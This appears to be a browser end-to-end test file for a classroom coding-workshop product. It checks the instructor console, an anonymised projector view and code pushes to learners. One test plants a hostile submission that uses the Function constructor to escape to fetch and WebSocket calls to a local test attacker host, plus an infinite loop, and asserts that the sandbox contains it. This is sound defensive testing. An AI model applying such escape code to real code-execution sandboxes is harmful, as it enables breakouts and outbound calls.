/**
 * What is shown and given in a room, in real browsers over the product's server: code run again in the console, hostile
 * code too; a story on the wall without a name; what is pushed and mirrored, in a learner's dock and lab.
 */
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { callRoom } from '#workshop/calls.ts';
import { Client } from '#workshop/client.ts';
import { newSecret } from '#workshop/ids.ts';
import { outsideAt } from '#workshop/open-link.ts';
import { routes } from '#workshop/routes.ts';
import { formatSharedWork, type Claim } from '#workshop/sharing.ts';
import { launchChromium } from './browser.ts';
import { startAttacker, type Attacker } from './hostile/attacker.ts';
import { LabPage, openChromiumTab, s5File } from './pages.ts';
import { barriersInThemes } from './reader.ts';
import { RoomSite, say } from './room-site.ts';

const lab = 's5-retry';
const names = ['Ada Lovelace', 'Bodo Bluff', 'Cyra Quux'] as const;
const files = ['client.ts', 'server.ts', 'reconcile.ts', 'policy.ts'];
const passedClaim: Claim = {
  goal: 'run',
  kind: 'passed',
  code: null,
  fingerprint: null,
  traceHash: null,
  seed: null,
};

let room: RoomSite;
let browser: Browser;
let staff: BrowserContext;
let desk: Page;
let wall: Page;
let teacher: Client;
let attacker: Attacker;
/** Everything that the projector's window was sent. */
const sentToWall: string[] = [];
/** Every address that the console's pages asked for. */
const asked = new Set<string>();

interface Learner {
  readonly id: string;
  readonly client: Client;
  lay(texts: Readonly<Record<string, string>>, claim: Claim): Promise<void>;
}

/** Waits until a client has the room's answer. */
async function live(client: Client): Promise<void> {
  const endMs = performance.now() + 60_000;
  while (client.connection !== 'live' || client.you === null) {
    if (performance.now() > endMs) throw new Error(`Not connected: ${client.connection}`);
    await new Promise((resolve) => {
      setTimeout(resolve, 20);
    });
  }
}

/** A learner without a page. */
async function learn(name: string): Promise<Learner> {
  const credential = { as: 'participant', session: room.code, secret: newSecret() } as const;
  const { secret, session } = credential;
  const joined = await callRoom(fetch, room.url + routes.join, {
    method: 'POST',
    body: { session, secret, name, word: null },
  });
  if (joined.kind !== 'done') throw new Error(joined.why);
  const client = new Client({ credential, store: null, outside: outsideAt(room.url) });
  await client.start();
  await live(client);
  const id = client.you?.id ?? '';
  let work = 0;
  const lay: Learner['lay'] = async (texts, claim) => {
    await say(client, { kind: 'consented', code: true, drafts: false });
    const called = await callRoom(fetch, `${room.url}${routes.shared}/${lab}`, {
      method: 'PUT',
      credential,
      body: { text: formatSharedWork({ lab, texts, imported: {}, claim }), atMs: Date.now() },
    });
    if (called.kind !== 'done') throw new Error(called.why);
    work += 1;
    const { goal, kind: outcome, code, fingerprint } = claim;
    const hash = `w${work}`;
    await say(client, { kind: 'ran', lab, goal, outcome, code, fingerprint, work: hash });
    await say(client, { kind: 'shared', lab, work: hash });
  };
  return { id, client, lay };
}

function folder(name: 'starter' | 'solution'): Record<string, string> {
  return Object.fromEntries(files.map((file) => [file, s5File(name, file)]));
}

/** Opens somebody's code from the table of people. */
async function openCode(name: string): Promise<void> {
  await desk.locator('[data-person]', { hasText: name }).first().click();
  await desk.locator('dialog[open]').getByRole('button', { name: /code/i }).first().click();
}

/** Closes the code, and the person's dialog that comes back with it. */
async function closeDialogs(): Promise<void> {
  await desk.keyboard.press('Escape');
  await desk.locator('.code-dialog').waitFor({ state: 'detached' });
  await desk.locator('dialog[open]').waitFor();
  await desk.keyboard.press('Escape');
  await desk.locator('dialog[open]').waitFor({ state: 'detached' });
}

const people: Learner[] = [];

beforeAll(async () => {
  room = await RoomSite.open('A morning of retries');
  browser = await launchChromium();
  attacker = await startAttacker();
  teacher = await room.instructor();
  await live(teacher);
  for (const name of names) people.push(await learn(name));
  staff = await browser.newContext({
    viewport: { width: 1440, height: 900 },
    serviceWorkers: 'block',
  });
  staff.setDefaultTimeout(90_000);
  staff.on('request', (request) => asked.add(new URL(request.url()).origin));
  desk = await staff.newPage();
  await desk.goto(`${room.url}/workshop/console/#token=${room.token}`);
  await desk.locator('[data-person]').first().waitFor();
  wall = await staff.newPage();
  wall.on('websocket', (socket) =>
    socket.on('framereceived', ({ payload }) => sentToWall.push(String(payload))),
  );
  await wall.goto(`${room.url}/workshop/projector/`);
  await wall.getByText(`${room.code.slice(0, 3)} ${room.code.slice(3)}`).waitFor();
});

afterAll(async () => {
  for (const { client } of people) client.close();
  teacher?.close();
  await attacker?.close();
  await browser?.close();
  await room?.close();
});

/** The fingerprint of the starter's story, as this console found it. */
let story = '';

test('code: what was claimed stands beside what the console found by running it', async () => {
  await people[0]?.lay(folder('starter'), passedClaim);
  await openCode('Ada');
  const dialog = desk.locator('dialog[open]', { has: desk.locator('.code-dialog') });
  await dialog.getByText('Claimed passed, found E-1.').waitFor();
  await dialog.locator('.verdict.is-failed').waitFor();
  story = await dialog.locator('tr', { hasText: 'Story' }).locator('td').nth(1).innerText();
  expect(story).toMatch(/^[0-9a-f]{16}$/);
  await dialog.getByRole('button', { name: 'Beside the reference' }).click();
  await dialog.locator('.read-diffs .is-added').first().waitFor();
  expect(await barriersInThemes(desk)).toEqual({});
  await closeDialogs();
});

test('code: a hostile program neither freezes the console nor gets out of it', async () => {
  attacker.takeHits();
  const hostile = s5File('starter', 'client.ts')
    .replace(
      'const rule = policy[fn];',
      `const rule = policy[fn];
    try { Reflect.get(() => 0, 'constructor')('return fetch("http://${attacker.host}/out")')(); } catch {}
    try { Reflect.get(send, 'constructor')('new WebSocket("ws://${attacker.host}/")')(); } catch {}
    while (true) {}`,
    )
    .replace('import { call, now, random }', 'import { call, now, random, send }');
  await people[1]?.lay({ ...folder('starter'), 'client.ts': hostile }, passedClaim);
  await openCode('Bodo');
  const dialog = desk.locator('dialog[open]', { has: desk.locator('.code-dialog') });
  // While it runs the page answers.
  for (let turn = 0; turn < 5; turn += 1) {
    const frameMs = await desk.evaluate(async () => {
      const from = performance.now();
      await new Promise((resolve) => {
        setTimeout(resolve, 100);
      });
      return performance.now() - from;
    });
    expect(frameMs).toBeLessThan(2_000);
  }
  await dialog.getByText(/Claimed passed, found KIT-(HANG|TIME)\./).waitFor();
  await closeDialogs();
  expect(attacker.takeHits()).toEqual([]);
  expect([...asked].filter((origin) => origin !== room.url && origin !== 'null')).toEqual([]);
});

test('story: the console plays it again, passes over a false claim, and the wall has no name in it', async () => {
  const claim: Claim = { ...passedClaim, kind: 'failed', code: 'E-1', fingerprint: story };
  await people[0]?.lay(folder('starter'), claim);
  // The latest claims the same story with files that pass: it is tried first, and passed over.
  await people[2]?.lay(folder('solution'), claim);
  // Where the window is narrow for its letters, the panel is behind a tab.
  await desk.keyboard.press('c');
  const cluster = desk.locator('.cluster', { hasText: 'E-1' });
  await cluster.getByRole('button', { name: 'Show the story' }).click();
  await wall.locator('.is-story .story-event').first().waitFor();
  const shown = await wall.locator('body').innerText();
  expect(shown).toContain('2 of 3 broke it by this story');
  await wall.locator('.is-story svg.st .st-lane').first().waitFor({ state: 'attached' });
  const html = await wall.content();
  for (const part of names.flatMap((name) => [...name.split(' '), ...people.map(({ id }) => id)])) {
    expect(html).not.toContain(part);
    expect(sentToWall.join('\n')).not.toContain(part);
  }
  expect(sentToWall.join('').length).toBeGreaterThan(1_000);
  expect(sentToWall.join('\n')).not.toContain('placeOrder(order');
  expect(await barriersInThemes(wall)).toEqual({});
});

test('projector: counts without names, and a server that goes and comes back', async () => {
  await say(teacher, { kind: 'gathered', lab });
  await desk.getByRole('button', { name: 'Progress', exact: true }).click();
  await wall.locator('.progress-said li', { hasText: 'done' }).getByText('0').waitFor();
  await say(people[2]?.client ?? teacher, { kind: 'status', status: 'done', lab, note: '' });
  await wall.locator('.progress-said li', { hasText: 'done' }).getByText('1').waitFor();
  await room.stop();
  await wall.getByText('Not connected: this may be old').waitFor();
  await room.start('same address');
  await wall.getByText('Not connected').waitFor({ state: 'detached' });
  for (const { client } of people) await live(client);
  await live(teacher);
});

test('push: fifty have it within a second; a learner takes a change and undoes it; it can be taken back', async () => {
  const context = await browser.newContext({ serviceWorkers: 'block' });
  context.setDefaultTimeout(90_000);
  const page = await context.newPage();
  await page.goto(`${room.url}/workshop/?code=${room.code}`);
  await page.getByLabel('What shall we call you?').fill('Dora');
  await page.getByRole('button', { name: 'Join', exact: true }).click();
  await page.locator('.recovery-word').waitFor();
  const tab = await openChromiumTab(context);
  const bench = new LabPage(tab);
  await bench.open(`${room.url}/labs/${lab}/`);
  await bench.paste('policy.ts', 'one\ntwo\nthree\n');

  const fleet = await Promise.all(Array.from({ length: 50 }, (_, at) => learn(`Sim ${at}`)));
  const push = 'one\n2\nthree\nfour\n';
  const arrived = fleet.map(
    ({ client }) =>
      new Promise<number>((resolve) => {
        client.subscribe(() => {
          if (client.session?.pushes.length === 1) resolve(performance.now());
        });
      }),
  );
  const saidMs = performance.now();
  await say(teacher, {
    kind: 'pushed',
    push: 'push-1',
    title: 'Three attempts',
    lab,
    what: 'snippet',
    files: { 'policy.ts': push },
  });
  const latestMs = Math.max(...(await Promise.all(arrived))) - saidMs;
  console.log(`[push] the last of 50 had it after ${latestMs.toFixed(0)} ms`);
  expect(latestMs).toBeLessThan(1_000);
  for (const { client } of fleet) client.close();

  const lastPage = context.pages().at(-1) ?? page;
  const card = lastPage.locator('.dock-card', { hasText: 'Three attempts' });
  await card.getByRole('button', { name: 'Diff to mine' }).click();
  expect(await bench.text()).toBe('one\ntwo\nthree\n');
  await card.getByRole('button', { name: 'Take this change' }).first().click();
  await bench.shows('one\n2\nthree\n');
  await bench.press('Undo take');
  await bench.shows('one\ntwo\nthree\n');
  await card.getByRole('button', { name: 'Take the whole file' }).click();
  await bench.shows(push);
  await say(teacher, { kind: 'withdrawn', push: 'push-1' });
  await card.waitFor({ state: 'detached' });
  await bench.shows(push);

  // The instructor's own editor, in the browser that has the console's token.
  const own = new LabPage(await openChromiumTab(staff));
  await own.open(`${room.url}/labs/${lab}/`);
  const ownPage = staff.pages().at(-1) ?? desk;
  await ownPage.getByRole('switch', { name: 'Mirror to the class' }).click();
  await own.paste('policy.ts', 'mirrored line\n');
  const mirror = lastPage.locator('.dock-card', { hasText: 'mirrored line' });
  await mirror.waitFor();
  expect(await barriersInThemes(lastPage)).toEqual({});
  await ownPage.getByRole('switch').click();
  await expect.poll(() => teacher.session?.mirror).toBeNull();
  await context.close();
});

test('push: a snippet of the console reaches the class', async () => {
  await desk.bringToFront();
  await desk.getByRole('tab', { name: 'Give' }).click();
  await desk.getByLabel('Code', { exact: true }).fill('const attempts = 3;');
  await desk.getByRole('button', { name: 'Give it to the class' }).click();
  await expect.poll(() => people[0]?.client.session?.pushes.length).toBe(2);
  const checkpoint = desk.getByRole('region', { name: 'Give a checkpoint' });
  await checkpoint.getByLabel('Lab').selectOption(lab);
  await checkpoint.getByRole('button', { name: 'Give the reference' }).click();
  await expect.poll(() => people[0]?.client.session?.pushes.length).toBe(3);
  expect(people[0]?.client.session?.pushes[2]?.files).toEqual(folder('solution'));
});
